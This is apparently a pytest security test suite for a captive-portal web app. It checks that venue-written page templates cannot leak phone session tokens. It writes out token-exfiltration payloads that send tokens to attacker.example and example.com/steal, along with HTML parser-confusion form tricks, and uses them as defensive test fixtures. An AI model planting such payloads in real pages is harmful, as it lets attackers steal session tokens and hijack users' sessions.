"""Venue templates never see the phone's tokens: they are written into our forms after rendering.

An attack run published a status page with
``<a href="https://attacker.example/collect?s={{ s }}&c={{ c }}">``:
the link carried the phone's real status token, and from another address with no cookies
``POST /portal/logout s=<token>`` logged the phone out (the AC's address check off). Now venue
code gets per-render sentinels; the real token is put only into our hidden inputs and into exact
copies of the links we hand out (``portal.web.phone.late_tokens``). Real HTTP against the app, the AC
simulator, RADIUS and Redis; the pages are published through the page store's publish check.
"""
from __future__ import annotations

import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from portal.venues.pages import default_source
from portal.web import services
from portal.web.phone.late_tokens import hide_tokens
from tests.e2e.stack import Stack, phone, running_stack, stack_app, wait_for
from tests.security.phone_http import Client, serve
from tests.security.test_phone_flow import device, land, redirect

LEAKS = ('<a id="x1" href="https://attacker.example/collect?s={{ s }}&c={{ c }}&t={{ ticket }}">x</a>'
         '<a id="x2" href="https://attacker.example/{{ lang_url }}">x</a>'
         '<a id="x3" href="{{ lang_url }}" title="{{ s }}{{ c }}">x</a>'
         '<img id="x4" alt="{{ s }}{{ c }}"><p id="x5">{{ s }}|{{ c }}|{{ s|reverse }}|{{ lang_url }}</p>'
         '<form action="https://attacker.example/f"><input name="s" value="{{ s }}" form="other"></form>'
         '<a id="x6" href="https://attacker.example/?{{ status_url }}">x</a>')


def with_leaks(page: str) -> str:
    source = default_source(page)
    return source.replace("{% block body %}", "{% block body %}" + LEAKS, 1)


@pytest.fixture
def nat(redis_client: Any, redis_url: str, data_dir: Path) -> Iterator[tuple[Stack, str]]:
    """The AC's address check off (as in the report): only the token stands for the phone."""
    with running_stack(redis_client, redis_url, data_dir, client_address_check=False) as stack, \
            serve(stack) as base:
        app = stack_app(stack)
        for page in ("login", "success", "status"):
            services(app).pages.publish(stack.venues.get("library"), page, "mallory",
                                                     source=with_leaks(page))
        yield stack, base


def leaked(html: str, tokens: list[str]) -> list[str]:
    """Tokens found anywhere but our own forms' hidden inputs and our own links."""
    ours = re.sub(r'<input type="hidden" name="(?:c|s|ticket)" value="[^"]*">', "", html)
    ours = re.sub(r'<a id="lang" href="[^"]*">', "", ours)
    ours = re.sub(r"<LoginURL>http://127\.0\.0\.1:\d+/portal/wispr\?c=[^<]*</LoginURL>", "", ours)
    ours = re.sub(r'<a[^>]* href="/portal/status\?s=[^"]*"[^>]*>', lambda m: "" if "x" not in m.group(0)[:8]
                  else m.group(0), ours)
    return [t for t in tokens if t and (t in ours or t[::-1] in ours)]


def test_a_venue_page_cannot_copy_the_phones_tokens_into_a_link(nat: tuple[Stack, str]) -> None:
    stack, base = nat
    ip, mac = device(20)
    browser = Client(base, ip)
    landing, c = land(browser, redirect(stack, base, ip, mac))
    assert 'id="x1"' in landing.text, "the venue page was not served"
    assert len(c) > 40 and leaked(landing.text, [c]) == []
    assert "attacker.example/collect?s=&c=&t=\"" in landing.text
    browser.post("/portal/code", {"c": c, "phone": phone(20)})
    done = browser.post("/portal/login", {"c": c, "phone": phone(20), "code": stack.last_code(phone(20))})
    assert done.success
    link = re.search(r'href="(/portal/status\?s=[^"]+)"', done.text)
    assert link, "the success page lost our status link"
    status = browser.get(link.group(1).replace("&amp;", "&"))
    ours = re.search(r'<input type="hidden" name="s" value="([^"]+)">', status.text)
    s = ours.group(1) if ours else ""
    assert len(s) > 40 and 'id="x1"' in status.text
    assert leaked(status.text, [s, c]) == [] and leaked(done.text, [s, c]) == []
    # The attacker, from another address and without cookies, has nothing to log the phone out with.
    attacker = Client(base, "127.0.99.9", keep_cookies=False)
    for token in re.findall(r"[?&;]s=([^&\"']*)", status.text + done.text):
        if token != s:
            assert attacker.post("/portal/logout", {"s": token}).status in (400, 403)
    assert wait_for(lambda: stack.journey.sessions.by_phone(phone(20)))
    # Our own form still works from the phone.
    out = browser.post("/portal/logout", {"s": s, "lang": "zh"})
    assert out.status == 200 and "您已下线" in out.text


def test_origin_null_is_refused_on_scripted_requests(nat: tuple[Stack, str]) -> None:
    """A sandboxed frame or ``data:`` page fetching our endpoints sends ``Origin: null``."""
    stack, base = nat
    ip, mac = device(21)
    browser = Client(base, ip)
    _, c = land(browser, redirect(stack, base, ip, mac))
    scripted = {"Origin": "null", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Site": "cross-site"}
    page = browser.post("/portal/code", {"c": c, "phone": phone(21)}, headers=scripted)
    assert page.error_code == "foreign_request"
    page = browser.post("/portal/logout", {"s": "x" * 60}, headers=scripted)
    assert page.error_code == "foreign_request"
    # Our venue pages are sandboxed: their form navigations send Origin null and still work.
    form = {"Origin": "null", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "cross-site"}
    assert browser.post("/portal/code", {"c": c, "phone": phone(21)}, headers=form).status == 200


def test_hidden_tokens_are_bound_only_where_they_are_ours() -> None:
    token = "T" * 48
    context, late = hide_tokens({"s": token, "lang_url": f"/portal/status?s={token}&lang=en",
                                 "urls": {"logout": "/portal/logout"}})
    sentinel = context["s"]
    assert token not in repr(context)
    html = (f'<form action="/portal/logout"><input type="hidden" name="s" value="{sentinel}"></form>'
            f'<a href="/portal/status?s={sentinel}&amp;lang=en">zh</a>'
            f'<input name="s" value="{sentinel}" form="ours"><form id="ours" action="/portal/logout"></form>'
            f'<form action="https://evil/"><input name="s" value="{sentinel}"></form>'
            f'<input name="s" value="{sentinel}" form="evil"><form id="evil" action="https://evil/"></form>'
            f'<input name="s" value="{sentinel}">'
            f'<a href="https://evil/?s={sentinel}">x</a><a href="/portal/status?s={sentinel}&amp;lang=en" '
            f'ping="{sentinel}">y</a><input name="c" value="{sentinel}"><!-- {sentinel} --><p>{sentinel}</p>')
    bound = late.bind(html)
    assert bound.count(token) == 3 and "cwlate" not in bound, bound
    assert f'action="/portal/logout"><input type="hidden" name="s" value="{token}">' in bound
    assert f'href="/portal/status?s={token}&amp;lang=en">zh' in bound
    assert f'value="{token}" form="ours"' in bound


@pytest.mark.parametrize("form", [
    # What a fourth attack run had Chromium post to another host (the server had bound the token).
    '<form method="post" action="http://www.example.com/steal" action="/portal/logout">{input}</form>',
    '<form method="post" action="/portal/logout">{input}<button formaction="http://www.example.com/x">'
    'x</button></form>',
    '<form action="http://www.example.com/nested"><form action="/portal/logout">{input}</form></form>',
    '<form method="post"/action="http://www.example.com/x"/action="/portal/logout">{input}</form>',
    # Markup a browser reads as text (or SVG) but HTMLParser as tags.
    '<form action="http://www.example.com/x"><xmp></form><form action="/portal/logout"></xmp>{input}</form>',
    '<form action="http://www.example.com/x"><svg></form><form action="/portal/logout"></svg>{input}</form>',
    '<plaintext><form action="/portal/logout">{input}</form>',
])
def test_forms_a_browser_may_read_otherwise_get_no_token(form: str) -> None:
    token = "T" * 48
    context, late = hide_tokens({"s": token, "urls": {"logout": "/portal/logout"}})
    html = form.format(input=f'<input type="hidden" name="s" value="{context["s"]}">')
    bound = late.bind(html)
    assert token not in bound and "cwlate" not in bound, bound
    assert late.ambiguous
    # The same input in a plain form of ours still gets it.
    plain = late.bind(f'<form action="/portal/logout"><input name="s" value="{context["s"]}"></form>')
    assert token in plain and not late.ambiguous


def test_telling_form_layouts_apart_stays_linear_and_spares_honest_pages() -> None:
    token = "T" * 48
    context, late = hide_tokens({"s": token, "urls": {"logout": "/portal/logout"}})
    ours = f'<form action="/portal/logout"><input type="hidden" name="s" value="{context["s"]}"></form>'
    # Styles and scripts around the form, an SVG icon before it: the token is bound.
    honest = (f'<style>a{{color:red}}</style><svg><path d="M0 0"/></svg><script></script>{ours}'
              '<style>b{}</style><title>x</title>')
    assert token in late.bind(honest) and not late.ambiguous
    # 50,000 unclosed openers (a venue loop can print them): decided at once, not per opener.
    for opener in ("<script>", "<title>", "<svg>"):
        started = time.monotonic()
        bound = late.bind(ours + opener * 50_000)
        assert time.monotonic() - started < 2.0, opener
        assert token in bound and not late.ambiguous, opener


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("page", ["login", "ad", "success", "status", "error"])
def test_default_pages_place_the_tokens_exactly_where_binding_would(page: str, lang: str) -> None:
    """Phone views render our own default pages with the real tokens, skipping the sentinels
    and the re-parse (portal.web.phone.phone_pages._render): that is only the same page if ours put every
    token where binding would have put it, and nowhere else."""
    from ad_pages.ads import select_ad
    from ad_pages.sandbox import PageRenderer
    from portal.venues.pages import build_context, sample_values
    from portal.venues.venue_store import Venue

    venue = Venue(id="v1", name_zh="图书馆", name_en="Library", redirect_url="https://www.example.com/")
    c, s, ticket = (f"Ab-_{n}" * 20 + "." + "z9" * 12 for n in range(3))
    urls = {"code": "/portal/code", "login": "/portal/login", "next": "/portal/continue",
            "logout": "/portal/logout"}
    values = sample_values(page, venue, lang)
    values.update({"login": {"c": c, "phone": "138****0000", "code_sent": True, "resend_in": 40,
                             "wispr": {"location_id": "ac=AC-1,ssid=CityWiFi", "location_name": "Library",
                                       "login_url": f"http://127.0.0.1:8080/portal/wispr?c={c}",
                                       "abort_url": "http://127.0.0.1:8080/portal"}},
                   "ad": {"c": c, "ticket": ticket, "ad": select_ad([], 0, lang)},
                   "success": {"status_url": f"/portal/status?s={s}&lang={lang}"},
                   "status": {"s": s, "lang_url": f"/portal/status?s={s}&lang=en"},
                   "error": {"retry_url": "/portal?ac=AC-1&ip=10.0.0.2"}}[page])
    context = build_context(venue, lang, urls=urls, digits=6, **values)
    renderer = PageRenderer()
    direct = renderer.render(page, context).html
    hidden, late = hide_tokens(context)
    assert direct == late.bind(renderer.render(page, hidden).html)
    assert not late.ambiguous
    assert any(token in direct for token in (c, s, ticket)) or page == "error"
